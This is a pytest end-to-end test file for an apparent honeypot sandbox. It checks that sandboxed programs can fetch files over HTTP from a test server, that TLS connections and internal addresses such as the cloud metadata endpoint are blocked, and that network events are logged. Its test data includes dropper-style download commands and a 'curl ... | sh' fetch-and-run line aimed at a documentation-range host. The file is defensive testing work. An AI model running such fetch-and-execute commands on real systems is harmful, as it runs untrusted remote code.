"""What a program in a cell truly downloads where the operator allows it: over HTTP as its server has it, over TLS nothing."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.house import House
from tests.e2e.sandbox.conftest import lacking
from tests.e2e.test_downloads import BODY, nets, pytestmark, server

__all__ = ["nets", "pytestmark", "server"]
# Whoever connects is put down by his port; nothing is said to him.
LISTENER = """
import socket, sys, threading
def serve(port):
    door = socket.create_server(("0.0.0.0", port))
    while True:
        line, _ = door.accept()
        print(port, flush=True)
        line.close()
doors = [threading.Thread(target=serve, args=(port,)) for port in (443, 8443)]
for door in doors: door.start()
"""
FORBIDDEN = ("http://203.0.113.1:8080/", "http://169.254.169.254/", "http://10.0.0.1/")
TLS = (
    ("https://203.0.113.5/", (7, 28)),
    ("https://203.0.113.5:8443/", (35,)),
)  # curl's status: no connection; it ends in the handshake


@pytest.fixture(scope="module")
def secured(nets: tuple[list[str], list[str]], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Who connects to the attacker's ports for TLS."""
    log = tmp_path_factory.mktemp("secured") / "asked"
    with log.open("w") as out:
        process = subprocess.Popen([*nets[1], sys.executable, "-c", LISTENER], stdout=out)
    yield log
    process.kill()
    process.wait()


@pytest.fixture(scope="module")
def house(
    nets: tuple[list[str], list[str]],
    server: list[Path],
    secured: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[House]:
    lacking()
    settings = {"MIRAGE_INTERNET_DOWNLOADS": "real"}
    within = ["nsenter", f"--net=/run/netns/{nets[0][-1]}"]  # `ip netns exec` mounts a /sys without control groups
    house = House(tmp_path_factory.mktemp("open") / "data", "--shell", "sandbox", settings=settings, within=within).start()
    yield house
    assert house.stop() == 0


@pytest.mark.parametrize(
    "command",
    [
        "wget -qO- http://203.0.113.5:8080/x.sh", "curl -s http://203.0.113.5:8080/x.sh", "busybox wget -qO- http://203.0.113.5:8080/x.sh",
        """python3 -c 'import urllib.request as u; print(u.urlopen("http://203.0.113.5:8080/x.sh").read().decode(), end="")'""",
    ],
)  # fmt: skip
def test_a_dropper_gets_what_its_server_has(house: House, server: list[Path], command: str) -> None:
    before = server[1].read_text().count("GET /x.sh")
    assert house.sh(command).encode() == BODY
    assert server[1].read_text().count("GET /x.sh") == before + 1


def test_what_is_fetched_runs(house: House) -> None:
    assert house.sh("curl -s http://203.0.113.5:8080/x.sh | sh") == "fetched\n"


@pytest.mark.parametrize("target", FORBIDDEN)
def test_neither_directly_nor_by_a_redirect_is_our_own_network_asked(house: House, server: list[Path], target: str) -> None:
    for url in (target, f"http://203.0.113.5:8080/to/{target}"):
        assert house.ssh(f"curl -s -L -g -m 3 '{url}'").stdout == b""
    assert server[0].read_text() == ""


@pytest.mark.parametrize(("url", "statuses"), TLS)
def test_over_tls_nothing_leaves_and_the_client_is_told_at_once(
    house: House, secured: Path, url: str, statuses: tuple[int, ...]
) -> None:
    done = house.ssh(f"curl -sS -k -m 5 {url}")
    assert done.returncode in statuses and done.stdout == b""
    assert secured.read_text() == ""


def test_what_left_the_machine_is_on_record_and_what_did_not_as_well(house: House) -> None:
    house.ssh("wget -qO /dev/null http://203.0.113.5:8080/told; curl -s -k -m 2 https://203.0.113.5/told", source="127.0.0.52")
    events = [json.loads(line) for line in house.cli("events", "--json").stdout.splitlines()]
    asked = [event for event in events if event["kind"] == "NetworkAsked" and event["source"] == "127.0.0.52"]
    told = {(event["action"], event["url"] or event["target"], event["left"] > 0) for event in asked}
    assert ("fetch", "http://203.0.113.5:8080/told", True) in told
    assert ("connect", "203.0.113.5", False) in told
